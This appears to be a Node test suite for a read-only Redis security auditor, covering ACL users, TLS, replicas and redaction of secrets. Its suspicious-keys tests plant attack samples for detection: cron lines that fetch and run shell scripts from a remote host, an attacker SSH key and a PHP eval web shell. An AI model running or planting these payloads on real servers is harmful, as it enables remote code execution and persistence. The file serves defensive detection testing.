import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import { createHash } from 'node:crypto';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import type { ConnectionOptions } from '../../src/redis/connection.ts';
import { RedisTimeoutError, RedisUnreachableError } from '../../src/redis/errors.ts';
import { RespConnection } from '../../src/redis/resp-connection.ts';
import { parseTarget } from '../../src/redis/target.ts';
import type { Facts } from '../../src/security/facts.ts';
import { REDACTED } from '../../src/security/live-commands.ts';
import { type AuditMemo, collectLiveFacts, type LiveFactsOptions } from '../../src/security/live-facts.ts';
import { collectLocalFacts } from '../../src/security/local-facts.ts';
import { requireBinary } from '../support/binaries.ts';
import { freePort } from '../support/ports.ts';
import { type RedisServer, startRedis } from '../support/redis-server.ts';
import { respCommand, respCommands } from '../support/resp.ts';

/** The least-privilege auditor of research/security.md §4, verbatim. */
const AUDITOR_RULES =
  'on >auditor-pw-7f3a resetchannels -@all +ping +hello +info +config|get +acl|list +acl|getuser +acl|users +acl|log +acl|whoami +command|info +command|count +command|list +command|docs +slowlog|get +latency|latest +memory|stats +client|list +module|list';
const ADMIN_PW = 'admin-pw-0b7c4d9e';
const USERS = [
  `auditor ${AUDITOR_RULES}`,
  `auditor2 ${AUDITOR_RULES.replace('auditor-pw-7f3a', 'auditor2-pw-1c9e')} +acl|dryrun`,
  // CONFIG forbidden: the auditor without config|get.
  `limited ${AUDITOR_RULES.replace('auditor-pw-7f3a', 'limited-pw-5d2b').replace(' +config|get', '')}`,
  // Only INFO: everything else is refused.
  'minimal on >minimal-pw-8e1f -@all +info',
  // The +@write pitfall: FUNCTION LOAD and PFADD come back with +@write.
  'app on >app-pw-3a6f ~app:* -@all +@read +@write -@dangerous',
  'weak on nopass ~* +@all',
  'retired off >old-pw-2b4c +@all',
  // Selectors: the root rules alone cannot say whether ACL DRYRUN is allowed, so one DRYRUN asks first.
  `selective ${AUDITOR_RULES.replace('auditor-pw-7f3a', 'selective-pw-4e2a')} (+acl|dryrun)`,
  `selective2 ${AUDITOR_RULES.replace('auditor-pw-7f3a', 'selective2-pw-6b1d')} (~x +get)`,
];
const USER_NAMES = ['default', ...USERS.map((u) => u.split(' ')[0])].sort();
const READ_ONLY = new Set([
  'info',
  'auth',
  'ping',
  'acl|list',
  'acl|log',
  'acl|dryrun',
  'command|info',
  'command|count',
  'command|list',
  'module|list',
  'config|get',
  'scan',
  'type',
  'getrange',
  'select',
]);

const sha = (s: string) => createHash('sha256').update(s).digest('hex');
const open: RespConnection[] = [];

function connection(server: RedisServer, user?: string, password?: string, options: ConnectionOptions = {}) {
  const scheme = server.tlsFiles ? 'rediss' : 'redis';
  const cred = password === undefined ? '' : `${encodeURIComponent(user ?? '')}:${encodeURIComponent(password)}@`;
  const tls = server.tlsFiles
    ? { caFile: server.tlsFiles.caCert, certFile: server.tlsFiles.clientCert, keyFile: server.tlsFiles.clientKey }
    : undefined;
  const c = new RespConnection(parseTarget(`${scheme}://${cred}${server.host}:${server.port}`), {
    connectTimeoutMs: 3000,
    tls,
    ...options,
  });
  open.push(c);
  return c;
}

async function audit(
  server: RedisServer,
  user?: string,
  password?: string,
  opts: Partial<LiveFactsOptions> = {},
): Promise<Facts> {
  const c = connection(server, user, password);
  try {
    return await collectLiveFacts(c, { deadlineMs: Date.now() + 8000, ...opts });
  } finally {
    await c.close();
  }
}

/** calls + rejected_calls + failed_calls per command, from INFO commandstats. */
async function commandCalls(server: RedisServer): Promise<Map<string, number>> {
  const out = new Map<string, number>();
  for (const line of String(await server.command('INFO', 'commandstats')).split('\r\n')) {
    const m = /^cmdstat_([^:]+):(.*)$/.exec(line);
    if (!m) continue;
    const kv = Object.fromEntries(m[2].split(',').map((p) => p.split('=')));
    out.set(m[1], Number(kv.calls ?? 0) + Number(kv.rejected_calls ?? 0) + Number(kv.failed_calls ?? 0));
  }
  return out;
}

async function infoField(server: RedisServer, section: string, field: string): Promise<string | undefined> {
  const text = String(await server.command('INFO', section));
  return new RegExp(`^${field}:(.*)$`, 'm').exec(text)?.[1]?.trim();
}

/** ACL LOG as comparable tuples (ages and client details change by themselves). */
async function aclLogTuples(server: RedisServer): Promise<string[]> {
  const log = (await server.command('ACL', 'LOG')) as unknown[][];
  return log.map((e) => {
    const m = new Map<string, unknown>();
    for (let i = 0; i + 1 < e.length; i += 2) m.set(String(e[i]), e[i + 1]);
    return `${m.get('reason')} ${m.get('object')} ${m.get('username')} ${m.get('count')}`;
  });
}

async function errorstat(server: RedisServer, name: string): Promise<number> {
  const v = await infoField(server, 'errorstats', `errorstat_${name}`);
  return v ? Number(/count=(\d+)/.exec(v)?.[1] ?? 0) : 0;
}

let plain: RedisServer; // no auth, unix socket, keys in db0 and db5
let secured: RedisServer; // requirepass
let acl: RedisServer; // aclfile: default (admin password) + USERS
let renamed: RedisServer; // requirepass + CONFIG renamed
let tls: RedisServer; // TLS only, requirepass
let mtls: RedisServer; // TLS only, tls-auth-clients yes, no password
let attacked: RedisServer; // failed AUTHs in the ACL log
let master: RedisServer;
let replica: RedisServer;
const RENAMED_TO = 'CFG_1e9d77';

before(async () => {
  [plain, secured, acl, renamed, tls, mtls, attacked, master] = await Promise.all([
    startRedis({ unixSocket: { perm: '770' } }),
    startRedis({ password: 'requirepass-secret-41' }),
    startRedis({ password: ADMIN_PW, aclUsers: USERS }),
    startRedis({ password: 'renamed-secret-93', renameConfig: RENAMED_TO }),
    startRedis({ tls: true, password: 'tls-secret-62' }),
    startRedis({ tls: { authClients: 'yes' } }),
    startRedis({ password: 'attacked-secret-17' }),
    startRedis({ password: 'master-secret-28' }),
  ]);
  replica = await startRedis({
    replicaOf: master,
    aclUsers: ['default on nopass ~* &* +@all', `limited ${USERS[2].split(' ').slice(1).join(' ')}`],
  });
});

after(async () => {
  await Promise.all(open.map((c) => c.close()));
  await Promise.all([plain, secured, acl, renamed, tls, mtls, attacked, replica, master].map((s) => s?.stop()));
});

describe('collectLiveFacts', () => {
  test('default server (no auth): everything observed, outsider sees PONG', async () => {
    const f = await audit(plain);
    assert.equal(f.live, true);
    assert.equal(f.target, `redis://127.0.0.1:${plain.port}`);
    assert.deepEqual(f.unobserved, {});
    assert.deepEqual(f.unauth, { result: 'open', configRenamed: false, detail: 'PING answered +PONG without AUTH' });
    assert.match(f.server?.version ?? '', /^\d+\.\d+\.\d+$/);
    assert.equal(f.server?.processId, plain.process.pid);
    assert.equal(f.server?.tcpPort, plain.port);
    assert.equal(f.info?.role, 'master');
    assert.deepEqual(f.users, [
      {
        name: 'default',
        enabled: true,
        nopass: true,
        passwordHashes: [],
        plaintextPasswords: [],
        keyPatterns: ['~*'],
        channelPatterns: ['*'],
        commandRules: ['+@all'],
        origin: 'acl-list',
      },
    ]);
    const v = f.config?.values ?? {};
    assert.equal(v['protected-mode'], 'yes');
    assert.equal(v.bind, '127.0.0.1');
    assert.equal(v.port, String(plain.port));
    assert.equal(v.requirepass, '');
    assert.equal(v.unixsocket, plain.socketPath);
    assert.equal(v.unixsocketperm, '770');
    assert.equal(v['enable-debug-command'], 'no');
    assert.equal(f.config?.derivedFromInfo, undefined);
    assert.equal(f.commandsPresent?.config, true);
    assert.equal(f.commandsPresent?.flushall, true);
    assert.ok((f.commandCount ?? 0) > 200);
    assert.ok(f.commandNames?.includes('get'));
    assert.deepEqual(f.modules, []);
    assert.deepEqual(f.aclLog, []);
    assert.equal(f.dryRun?.default?.['config|set'], true);
    assert.equal(f.dryRun?.default?.['function|load'], true);
    assert.equal(f.suspiciousKeys, undefined, 'opt-in');
    assert.equal(f.local, undefined, 'opt-in');
  });

  test('requirepass: its plaintext only in the default user, redacted in config; the probe gets NOAUTH', async () => {
    const f = await audit(secured, '', 'requirepass-secret-41');
    const def = f.users?.find((u) => u.name === 'default');
    assert.deepEqual(def?.plaintextPasswords, ['requirepass-secret-41']);
    assert.deepEqual(def?.passwordHashes, [sha('requirepass-secret-41')]);
    assert.equal(f.config?.values.requirepass, REDACTED);
    assert.equal(f.config?.values.masterauth, '');
    assert.deepEqual(f.unauth, { result: 'noauth', configRenamed: false, detail: 'NOAUTH' });
    const { users, ...rest } = f;
    assert.doesNotMatch(JSON.stringify(rest), /requirepass-secret-41/);
    assert.deepEqual(f.unobserved, {});
  });

  test('the auditor ACL of the research notes, exactly: everything but DRYRUN, and nothing refused', async () => {
    const getuser = (await acl.command('ACL', 'GETUSER', 'auditor')) as unknown[];
    assert.match(String(getuser[getuser.indexOf('commands') + 1]), /^-@all .*\+config\|get/);
    const nopermBefore = await errorstat(acl, 'NOPERM');
    const logBefore = await aclLogTuples(acl);
    const f = await audit(acl, 'auditor', 'auditor-pw-7f3a', { scanSuspiciousKeys: true });
    assert.deepEqual(Object.keys(f.unobserved).sort(), ['dryRun', 'keys']);
    assert.match(f.unobserved.dryRun ?? '', /may not run ACL DRYRUN/);
    assert.match(f.unobserved.keys ?? '', /may not run SCAN, TYPE, GETRANGE/);
    assert.equal(f.config?.values['protected-mode'], 'yes');
    assert.equal(f.config?.values.aclfile, `${acl.dir}/users.acl`);
    assert.equal(f.config?.derivedFromInfo, undefined);
    assert.deepEqual(f.users?.map((u) => u.name).sort(), USER_NAMES);
    const weak = f.users?.find((u) => u.name === 'weak');
    assert.deepEqual([weak?.enabled, weak?.nopass], [true, true]);
    assert.equal(f.users?.find((u) => u.name === 'retired')?.enabled, false);
    assert.deepEqual(f.users?.find((u) => u.name === 'app')?.passwordHashes, [sha('app-pw-3a6f')]);
    assert.ok(Array.isArray(f.aclLog));
    assert.equal(f.commandsPresent?.config, true);
    assert.ok(f.commandNames?.includes('config'));
    assert.deepEqual(f.modules, []);
    assert.equal(f.dryRun, undefined);
    // The audit sent nothing the auditor may not run.
    assert.equal(await errorstat(acl, 'NOPERM'), nopermBefore);
    assert.deepEqual(await aclLogTuples(acl), logBefore);
  });

  test('with +acl|dryrun: exact answers per user (admins skipped, disabled users skipped)', async () => {
    const f = await audit(acl, 'auditor2', 'auditor2-pw-1c9e', { adminUsers: ['default'] });
    assert.equal(f.unobserved.dryRun, undefined);
    assert.deepEqual(
      Object.keys(f.dryRun ?? {}).sort(),
      USER_NAMES.filter((n) => n !== 'default' && n !== 'retired'),
    );
    const app = f.dryRun?.app ?? {};
    assert.equal(app['config|set'], false);
    assert.equal(app.flushall, false);
    assert.equal(app.eval, false);
    assert.equal(app['function|load'], true, '+@write re-adds FUNCTION LOAD');
    assert.equal(app.pfadd, true);
    assert.equal(f.dryRun?.weak?.['config|set'], true);
    assert.equal(f.dryRun?.weak?.['module|load'], true);
    assert.equal(f.dryRun?.auditor?.['config|get'], true);
    assert.equal(f.dryRun?.auditor?.['config|set'], false);
  });

  test('selectors: one ACL DRYRUN decides whether to ask the rest', async () => {
    const yes = await audit(acl, 'selective', 'selective-pw-4e2a');
    assert.equal(yes.unobserved.dryRun, undefined);
    assert.equal(yes.dryRun?.app?.['function|load'], true);
    assert.deepEqual(yes.unobserved, {});
    const nopermBefore = await errorstat(acl, 'NOPERM');
    const no = await audit(acl, 'selective2', 'selective2-pw-6b1d');
    assert.match(no.unobserved.dryRun ?? '', /may not run ACL DRYRUN/);
    assert.equal(no.dryRun, undefined);
    // The one DRYRUN was refused; nothing more was sent.
    assert.equal(await errorstat(acl, 'NOPERM'), nopermBefore + 1);
  });

  test('a memo: an unchanged server is asked only ACL LOG, ACL LIST and CONFIG GET again; a changed ACL is asked anew', async () => {
    const memo: AuditMemo = {};
    const run = async () => {
      const info = String(await acl.command('INFO', 'ALL'));
      const before = await commandCalls(acl);
      const f = await audit(acl, 'auditor2', 'auditor2-pw-1c9e', { snapshotInfo: info, memo, probe: false });
      const after = await commandCalls(acl);
      const sent = [...after]
        .filter(([k, v]) => v > (before.get(k) ?? 0) && k !== 'info' && k !== 'auth')
        .map(([k]) => k);
      return { f, sent: sent.sort() };
    };
    const first = await run();
    assert.ok(first.sent.includes('acl|dryrun') && first.sent.includes('command|info'), first.sent.join());
    const second = await run();
    assert.deepEqual(second.sent, ['acl|list', 'acl|log', 'config|get']);
    assert.deepEqual(second.f.dryRun, first.f.dryRun);
    assert.deepEqual(second.f.commandsPresent, first.f.commandsPresent);
    assert.equal(second.f.commandCount, first.f.commandCount);
    assert.deepEqual(second.f.commandNames, first.f.commandNames);
    assert.deepEqual(second.f.modules, first.f.modules);
    await acl.command('ACL', 'SETUSER', 'memo-probe', 'on', '>memo-probe-pw-5d', '~*', '+@all');
    try {
      const third = await run();
      assert.ok(third.sent.includes('acl|dryrun'), third.sent.join());
      assert.ok(!third.sent.includes('command|info'), 'the command table is still that of the same run');
      assert.equal(third.f.dryRun?.['memo-probe']?.['config|set'], true);
    } finally {
      await acl.command('ACL', 'DELUSER', 'memo-probe');
    }
  });

  test('INFO ALL from the exporter snapshot is used instead of a second INFO', async () => {
    const info = String(await respCommand(secured.endpoint, 'INFO', 'ALL'));
    const before = (await commandCalls(secured)).get('info') ?? 0;
    const f = await audit(secured, '', 'requirepass-secret-41', { snapshotInfo: info });
    const after = (await commandCalls(secured)).get('info') ?? 0;
    assert.equal(after - before, 1, 'only the measuring INFO commandstats itself');
    assert.equal(f.server?.processId, secured.process.pid);
    assert.equal(f.info?.redis_version, f.server?.version);
  });

  test('CONFIG forbidden by ACL: not sent (no NOPERM), INFO stands in, the reason is recorded', async () => {
    const nopermBefore = await errorstat(acl, 'NOPERM');
    const f = await audit(acl, 'limited', 'limited-pw-5d2b');
    assert.equal(f.unobserved.config, 'user "limited" may not run CONFIG GET (ACL)');
    assert.deepEqual(f.config?.values, {
      maxmemory: '0',
      'maxmemory-policy': 'noeviction',
      maxclients: '10000',
      appendonly: 'no',
      'cluster-enabled': 'no',
    });
    assert.deepEqual(f.config?.derivedFromInfo, Object.keys(f.config?.values ?? {}));
    assert.equal(f.users?.length, USER_NAMES.length);
    assert.equal(await errorstat(acl, 'NOPERM'), nopermBefore);
  });

  test('a user with only INFO: server facts, and every other part unobserved with its reason', async () => {
    const f = await audit(acl, 'minimal', 'minimal-pw-8e1f');
    assert.match(f.server?.version ?? '', /^\d/);
    assert.match(f.unobserved.users ?? '', /ACL LIST is not permitted for user "minimal" \(NOPERM\)/);
    assert.match(f.unobserved.aclLog ?? '', /NOPERM/);
    assert.match(f.unobserved.commands ?? '', /COMMAND INFO .*NOPERM/);
    assert.match(f.unobserved.config ?? '', /CONFIG GET .*NOPERM/);
    assert.match(f.unobserved.dryRun ?? '', /ACL LIST/);
    assert.equal(f.users, undefined);
    assert.deepEqual(f.config?.derivedFromInfo?.includes('maxmemory'), true);
    assert.deepEqual(f.modules, [], 'from INFO modules when MODULE LIST is refused');
    assert.equal(f.unauth?.result, 'noauth');
  });

  test('CONFIG renamed: the outsider oracle, COMMAND INFO nil, INFO stands in, the new name never appears', async () => {
    const f = await audit(renamed, '', 'renamed-secret-93');
    assert.deepEqual([f.unauth?.result, f.unauth?.configRenamed], ['noauth', true]);
    assert.equal(f.commandsPresent?.config, false);
    assert.match(f.unobserved.config ?? '', /renamed or disabled/);
    assert.equal(f.config?.values.maxmemory, '0');
    assert.ok(f.config?.derivedFromInfo?.includes('maxmemory'));
    assert.ok(!f.commandNames?.some((n) => /cfg_/i.test(n)));
    assert.doesNotMatch(JSON.stringify(f), new RegExp(RENAMED_TO, 'i'));
    // The plaintext requirepass is unknown without CONFIG; the hash is there.
    assert.deepEqual(f.users?.find((u) => u.name === 'default')?.plaintextPasswords, []);

    const g = await audit(renamed, '', 'renamed-secret-93', { configCommand: RENAMED_TO });
    assert.equal(g.unobserved.config, undefined);
    assert.equal(g.config?.values.requirepass, REDACTED);
    assert.equal(g.config?.derivedFromInfo, undefined);
    assert.deepEqual(g.users?.find((u) => u.name === 'default')?.plaintextPasswords, ['renamed-secret-93']);
    assert.doesNotMatch(JSON.stringify({ ...g, users: undefined }), new RegExp(`${RENAMED_TO}|renamed-secret-93`, 'i'));
  });

  test('wrong or missing credentials: the outsider view', async () => {
    for (const password of ['not-the-password', undefined]) {
      const f = await audit(secured, '', password);
      assert.equal(f.live, true);
      assert.deepEqual(f.unauth, { result: 'noauth', configRenamed: false, detail: 'NOAUTH' });
      for (const part of ['info', 'config', 'users', 'aclLog', 'commands', 'dryRun'] as const)
        assert.match(f.unobserved[part] ?? '', /^could not log in: .*(WRONGPASS|NOAUTH)/, `${part} (${password})`);
      assert.equal(f.server, undefined);
      assert.equal(f.users, undefined);
      assert.equal(f.config, undefined);
      assert.doesNotMatch(JSON.stringify(f), /not-the-password/);
    }
  });

  test('TLS-only server: TLS settings read, the probe answers over TLS', async () => {
    const f = await audit(tls, '', 'tls-secret-62');
    assert.deepEqual(f.unobserved, {});
    assert.equal(f.target, `rediss://127.0.0.1:${tls.port}`);
    assert.equal(f.config?.values.port, '0');
    assert.equal(f.config?.values['tls-port'], String(tls.port));
    assert.equal(f.config?.values['tls-auth-clients'], 'no');
    assert.deepEqual(f.unauth, { result: 'noauth', configRenamed: false, detail: 'NOAUTH', tls: true });
  });

  test('mTLS server: the outsider without a client certificate gets nothing', async () => {
    const f = await audit(mtls);
    assert.equal(f.config?.values['tls-auth-clients'], 'yes');
    assert.equal(f.users?.[0]?.nopass, true);
    assert.equal(f.unauth?.result, 'tls-required');
    assert.equal(f.unauth?.clientCertRequired, true);
  });

  test('failed AUTHs show in the ACL log (with the client address) and in errorstats', async () => {
    for (let i = 0; i < 5; i++)
      await assert.rejects(respCommand({ ...attacked.endpoint, password: `guess-${i}` }, 'PING'), /WRONGPASS/);
    const f = await audit(attacked, '', 'attacked-secret-17');
    const auth = f.aclLog?.filter((e) => e.reason === 'auth') ?? [];
    assert.equal(auth.length, 1, 'aggregated into one entry');
    assert.equal(auth[0].count, 5);
    assert.equal(auth[0].username, 'default');
    assert.equal(auth[0].object, 'AUTH');
    assert.match(auth[0].clientAddr ?? '', /^127\.0\.0\.1:\d+$/);
    assert.equal(f.errorstats?.WRONGPASS, 5);
    assert.doesNotMatch(JSON.stringify(f.aclLog), /guess-/);
  });

  test('a replica: role and master from INFO, masterauth redacted; replica-read-only from INFO without CONFIG', async () => {
    const f = await audit(replica);
    assert.equal(f.info?.role, 'slave');
    assert.equal(f.info?.master_host, '127.0.0.1');
    assert.equal(f.info?.master_port, String(master.port));
    assert.equal(f.info?.master_link_status, 'up');
    assert.equal(f.config?.values['replica-read-only'], 'yes');
    assert.equal(f.config?.values.replicaof, `127.0.0.1 ${master.port}`);
    assert.equal(f.config?.values.masterauth, REDACTED);
    assert.doesNotMatch(JSON.stringify(f), /master-secret-28/);

    const g = await audit(replica, 'limited', 'limited-pw-5d2b');
    assert.match(g.unobserved.config ?? '', /may not run CONFIG GET/);
    assert.equal(g.config?.values['replica-read-only'], 'yes');
    assert.ok(g.config?.derivedFromInfo?.includes('replica-read-only'));

    const m = await audit(master, '', 'master-secret-28');
    assert.equal(m.info?.role, 'master');
    assert.equal(m.info?.connected_slaves, '1');
    assert.match(m.info?.slave0 ?? '', /^ip=127\.0\.0\.1,port=\d+,state=online/);
  });

  test('local facts: the process uid and the files it uses', async () => {
    const f = await audit(plain, undefined, undefined, { local: true });
    assert.equal(f.unobserved.local, undefined);
    assert.equal(f.local?.uid, process.getuid?.());
    const byRole = Object.fromEntries((f.local?.files ?? []).map((x) => [x.role, x]));
    assert.equal(byRole.config?.path, `${plain.dir}/redis.conf`);
    assert.equal(byRole.config?.mode, 0o600);
    assert.equal(byRole.dir?.path, plain.dir);
    assert.equal(byRole.dir?.mode, 0o700);
    assert.equal(byRole.unixsocket?.path, plain.socketPath);
    assert.equal(byRole.unixsocket?.mode & 0o777, 0o770);
    assert.equal(byRole.config?.uid, process.getuid?.());
  });

  test('local facts refuse a process that is not a Redis server, or not on this host', async () => {
    const notRedis = await collectLocalFacts({ processId: process.pid });
    assert.match(notRedis.reason ?? '', /not a Redis server/);
    const gone = await collectLocalFacts({ processId: 2 ** 22 + 17 });
    assert.match(gone.reason ?? '', /not visible on this host/);
  });

  test('suspicious keys (opt-in): names and reasons only, across databases, back on the own database', async () => {
    await plain.command('SET', 'backup1', '\n\n*/1 * * * * curl -fsSL http://203.0.113.9/x.sh | sh\n\n');
    await plain.command('SET', 'x', '\n\nssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC7 attacker@evil\n\n');
    await plain.command('SET', 'user:1', 'hello');
    await plain.command('HSET', 'ssh-sessions', 'a', '1');
    await respCommands(plain.endpoint, [
      ['SELECT', 5],
      ['SET', 'page', '<?php @eval($_POST["c"]); ?>'],
      ['SET', 'crackit', 'plain'],
      ['SET', 'counter', '42'],
    ]);
    const c = connection(plain);
    const f = await collectLiveFacts(c, { deadlineMs: Date.now() + 8000, scanSuspiciousKeys: true });
    assert.equal(f.unobserved.keys, undefined);
    const got = (f.suspiciousKeys ?? []).map((k) => `${k.db} ${k.key}: ${k.why}`).sort();
    assert.deepEqual(got, [
      'db0 backup1: name like the keys written by cron/SSH file-write exploits (backup*); value holds a cron line (crontab file-write IOC)',
      'db0 ssh-sessions: name mentions ssh',
      'db0 x: value holds an SSH public key (authorized_keys file-write IOC)',
      'db5 crackit: name used by the SSH authorized_keys file-write exploit (crackit)',
      'db5 page: value holds web-shell code (webshell file-write IOC)',
    ]);
    assert.doesNotMatch(JSON.stringify(f), /AAAAB3Nza|\$_POST|203\.0\.113\.9/);
    // The connection is back on its own database.
    assert.deepEqual(await c.pipeline([['EXISTS', 'backup1']]), [{ ok: true, value: 1 }]);
    await c.close();
  });

  test('read-only: INFO commandstats, keyspace, config, ACLs and the ACL log are unchanged', async () => {
    // Keys in two databases so the keyspace sample has SELECTs and SCANs to do.
    await respCommands(acl.endpoint, [
      ['SET', 'backup2', '*/5 * * * * wget -q -O- http://x | sh'],
      ['SET', 'app:1', 'v'],
      ['SELECT', 3],
      ['SET', 'cron', 'x'],
      ['RPUSH', 'list', 'a'],
    ]);
    const state = async () => ({
      dbsize: await acl.command('DBSIZE'),
      keyspace: String(await acl.command('INFO', 'keyspace')),
      changes: await infoField(acl, 'persistence', 'rdb_changes_since_last_save'),
      config: JSON.stringify(await acl.command('CONFIG', 'GET', '*')),
      users: JSON.stringify(await acl.command('ACL', 'LIST')),
      log: await aclLogTuples(acl),
      dirty: await infoField(acl, 'persistence', 'rdb_last_bgsave_status'),
    });
    const before = await state();
    const callsBefore = await commandCalls(acl);
    // The widest audits: the admin (CONFIG, DRYRUN for every user, keyspace sample, local) and both auditors.
    const admin = await audit(acl, '', ADMIN_PW, { scanSuspiciousKeys: true, local: true });
    assert.deepEqual(admin.unobserved, {});
    assert.ok(Object.keys(admin.dryRun ?? {}).length >= 7);
    assert.ok((admin.suspiciousKeys ?? []).some((k) => k.key === 'backup2'));
    await audit(acl, 'auditor', 'auditor-pw-7f3a', { scanSuspiciousKeys: true, local: true });
    await audit(acl, 'auditor2', 'auditor2-pw-1c9e');
    const callsAfter = await commandCalls(acl);
    const ran = [...callsAfter].filter(([cmd, n]) => n > (callsBefore.get(cmd) ?? 0)).map(([cmd]) => cmd);
    const notReadOnly = ran.filter((cmd) => !READ_ONLY.has(cmd));
    assert.deepEqual(notReadOnly, [], `commands that are not read-only ran: ${notReadOnly.join(', ')}`);
    for (const cmd of ['info', 'acl|list', 'acl|log', 'config|get', 'acl|dryrun', 'scan', 'getrange'])
      assert.ok(ran.includes(cmd), `${cmd} was expected to run`);
    for (const cmd of [
      'config|set',
      'config|rewrite',
      'config|resetstat',
      'acl|setuser',
      'acl|save',
      'acl|load',
      'flushall',
      'flushdb',
      'debug',
      'keys',
      'save',
      'bgsave',
      'eval',
      'function|load',
      'replicaof',
      'slaveof',
      'module|load',
    ])
      assert.ok(!ran.includes(cmd), cmd);
    assert.deepEqual(await state(), before);
  });

  test('Sentinel: no CONFIG by design (not "renamed"), and the outsider gets PONG', async () => {
    const port = await freePort();
    const dir = mkdtempSync(join(tmpdir(), 'redoubt-sentinel-'));
    writeFileSync(
      join(dir, 'sentinel.conf'),
      `port ${port}\nbind 127.0.0.1\ndir ${dir}\nsentinel monitor lab 127.0.0.1 ${plain.port} 1\n`,
    );
    const child = spawn(requireBinary('redis-server'), [join(dir, 'sentinel.conf'), '--sentinel'], { stdio: 'ignore' });
    try {
      const server = { host: '127.0.0.1', port } as RedisServer;
      let f: Facts | undefined;
      for (let i = 0; i < 100 && !f?.server; i++) {
        await new Promise((r) => setTimeout(r, 50));
        f = await audit(server).catch(() => undefined);
      }
      assert.equal(f?.server?.mode, 'sentinel');
      assert.match(f?.unobserved.config ?? '', /Sentinel has no CONFIG/);
      assert.equal(f?.commandsPresent?.config, false);
      assert.deepEqual([f?.unauth?.result, f?.unauth?.configRenamed], ['open', false]);
      assert.equal(f?.users?.[0]?.nopass, true);
    } finally {
      child.kill('SIGKILL');
      rmSync(dir, { recursive: true, force: true });
    }
  });

  test('a server that accepts but never answers: rejects by the deadline', async () => {
    const silent: Server = createServer(() => {});
    await new Promise<void>((r) => silent.listen(0, '127.0.0.1', () => r()));
    const addr = silent.address();
    const port = typeof addr === 'object' && addr ? addr.port : 0;
    try {
      const c = new RespConnection(parseTarget(`redis://127.0.0.1:${port}`), { connectTimeoutMs: 3000 });
      open.push(c);
      const started = Date.now();
      await assert.rejects(collectLiveFacts(c, { deadlineMs: started + 600 }), RedisTimeoutError);
      assert.ok(Date.now() - started < 1500, `took ${Date.now() - started}ms`);
      await c.close();
    } finally {
      silent.close();
    }
  });

  test('nothing listening: the audit cannot run (typed error)', async () => {
    const c = new RespConnection(parseTarget(`redis://127.0.0.1:${await freePort()}`), { connectTimeoutMs: 1000 });
    open.push(c);
    await assert.rejects(collectLiveFacts(c, { deadlineMs: Date.now() + 1500 }), RedisUnreachableError);
    await c.close();
  });
});
